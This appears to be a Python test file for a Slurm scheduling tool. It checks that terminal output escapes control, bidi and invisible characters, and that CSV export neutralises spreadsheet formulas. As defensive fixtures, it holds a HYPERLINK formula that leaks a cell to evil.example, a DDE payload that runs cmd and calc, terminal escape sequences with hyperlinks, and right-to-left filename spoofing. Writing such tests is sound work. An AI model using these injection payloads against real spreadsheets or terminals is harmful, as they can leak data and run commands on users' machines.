"""What the store holds is data from Slurm and its users (job ids, users, partitions,
Slurm's answers): `slurm-rl explain` shows it with every control, bidi and other
invisible format character as a visible escape, and `slurm-rl export` writes CSV cells
that no spreadsheet runs as a formula and no terminal runs as an escape sequence."""

from __future__ import annotations

import csv
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner

from slurm_rl.cli.main import main
from slurm_rl.ops.safe_text import csv_cell, terminal_text
from slurm_rl.store.models import CycleRow, DecisionRow, JobRow, OutcomeRow
from slurm_rl.store.repository import Store

NOW = datetime.now(UTC).timestamp()
RLO, LRI, PDI, ZWSP, BOM, LSEP = "\u202e", "\u2066", "\u2069", "\u200b", "\ufeff", "\u2028"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _hostile_store(path: Path, *, user: str, partition: str, answer: str,
                   cluster: str = "c", job_id: str = "5", policy: str = "fifo+best-fit") -> str:
    url = f"sqlite:///{path}"
    store = Store(url)
    key = f"{cluster}:{job_id}"
    with store.session() as session, session.begin():
        session.add(JobRow(job_key=key, cluster=cluster, job_id=job_id, user=user,
                           partition=partition, num_gpus=1, num_nodes=1, gpu_type=None,
                           submit_time=NOW - 60, first_seen=NOW - 50))
        cycle = CycleRow(cluster=cluster, snapshot_time=NOW - 40, recorded_at=datetime.now(UTC),
                         policy_id=policy, actuator_mode="enforce", pending_jobs=1,
                         running_jobs=0, free_gpus=8)
        session.add(cycle)
        session.flush()
        session.add(DecisionRow(cycle_id=cycle.id, job_key=key, policy_id=policy, rank=0,
                                score=1.0, nodes="n-1", action="place",
                                argv=["scontrol", "update", f"JobId={job_id}"], slurm_rc=1,
                                slurm_answer=answer, details=None))
        session.add(OutcomeRow(job_key=key, start_time=NOW - 30, end_time=NOW - 20,
                               nodes="n-1", state="COMPLETED", exit_code=0, source="squeue",
                               recorded_at=datetime.now(UTC)))
    store.engine.dispose()
    return url


# -- the one sanitiser ---------------------------------------------------------------------


@pytest.mark.parametrize("raw, shown", [
    ("plain ascii", "plain ascii"),
    ("naïve ünïcode 日本", "naïve ünïcode 日本"),
    ("👩\u200d💻 and \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",  # ZWJ, ZWNJ kept
     "👩\u200d💻 and \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"),
    ("a\nb\rc\td\x00e\x1b[2Jf\x7fg\x9bh", "a\\x0ab\\x0dc\\x09d\\x00e\\x1b[2Jf\\x7fg\\x9bh"),
    (f"alice{RLO}exe.sh", "alice\\u202eexe.sh"),
    (f"{LRI}x{PDI}", "\\u2066x\\u2069"),
    (f"a{ZWSP}b{BOM}c{LSEP}d\u2029e\u200ff\u061cg", "a\\u200bb\\ufeffc\\u2028d\\u2029e\\u200ff"
                                                    "\\u061cg"),
    ("tag\U000e0041", "tag\\U000e0041"),  # invisible tag characters ("ASCII smuggling")
    ("bad\udc80byte", "bad\\udc80byte"),  # a lone surrogate no terminal could be sent
])
def test_terminal_text_escapes_control_bidi_and_format_characters(raw: str, shown: str) -> None:
    assert terminal_text(raw) == shown
    assert terminal_text(terminal_text(raw)) == shown  # once escaped, printable: idempotent


@pytest.mark.parametrize("raw, cell", [
    (HYPERLINK, "'" + HYPERLINK),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\\x09=1+1"),
    ("\r=1+1", "'\\x0d=1+1"),
    ("  =1+1", "'  =1+1"),
    ("x\x1b]8;;http://evil\x07y", "x\\x1b]8;;http://evil\\x07y"),
    (f"bob{RLO}", "bob\\u202e"),
    ("alice", "alice"),
    ("a=b", "a=b"),
    ("", ""),
])
def test_csv_cells_never_start_a_formula_nor_carry_escapes(raw: str, cell: str) -> None:
    assert csv_cell(raw) == cell


def test_csv_cells_that_are_not_text_are_left_as_they_are() -> None:
    assert [csv_cell(v) for v in (-3, -1.5, None, True)] == [-3, -1.5, None, True]


# -- explain -------------------------------------------------------------------------------


def test_explain_shows_bidi_and_control_characters_as_escapes(tmp_path: Path) -> None:
    url = _hostile_store(tmp_path / "s.sqlite", user=f"mallory{RLO}gpj.exe", partition=
                         f"gpu{LRI}x{PDI}{ZWSP}", answer=f"denied\x1b[2J{LSEP}forged line")
    result = CliRunner().invoke(main, ["explain", "5", "--store", url])
    assert result.exit_code == 0, result.output
    for char in (RLO, LRI, PDI, ZWSP, LSEP, "\x1b"):
        assert char not in result.output, repr(char)
    assert "mallory\\u202egpj.exe" in result.output
    assert "gpu\\u2066x\\u2069\\u200b" in result.output
    assert "denied\\x1b[2J\\u2028forged line" in result.output
    # --json leaves the content as it is: JSON escapes it.
    as_json = CliRunner().invoke(main, ["explain", "5", "--store", url, "--json"])
    assert as_json.exit_code == 0 and RLO not in as_json.output
    assert json.loads(as_json.output)["job"]["user"] == f"mallory{RLO}gpj.exe"


# -- export --------------------------------------------------------------------------------


def test_export_csv_neutralises_formulas_and_escape_bytes(tmp_path: Path) -> None:
    url = _hostile_store(tmp_path / "s.sqlite", user=HYPERLINK, partition="+1-1",
                         answer="\x1b]8;;http://evil\x07click\x1b]8;;\x07", cluster="@c",
                         job_id="-5", policy="\t=1+1")
    result = CliRunner().invoke(main, ["export", "--store", url, "--since", "1d",
                                       "--output", str(tmp_path / "out")])
    assert result.exit_code == 0, result.output
    raw = "".join(p.read_text() for p in (tmp_path / "out").glob("*.csv"))
    assert "\x1b" not in raw and "\x07" not in raw
    with (tmp_path / "out" / "jobs.csv").open(newline="") as handle:
        (job,) = list(csv.DictReader(handle))
    assert job["user"] == "'" + HYPERLINK and job["partition"] == "'+1-1"
    assert job["cluster"] == "'@c" and job["job_id"] == "'-5" and job["job_key"] == "'@c:-5"
    assert job["num_gpus"] == "1"  # numbers are numbers
    with (tmp_path / "out" / "decisions.csv").open(newline="") as handle:
        (decision,) = list(csv.DictReader(handle))
    assert decision["policy_id"] == "'\\x09=1+1"
    assert decision["slurm_answer"] == "\\x1b]8;;http://evil\\x07click\\x1b]8;;\\x07"
    every_cell = [cell for path in (tmp_path / "out").glob("*.csv")
                  for row in csv.reader(path.open(newline="")) for cell in row]
    assert not [c for c in every_cell if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
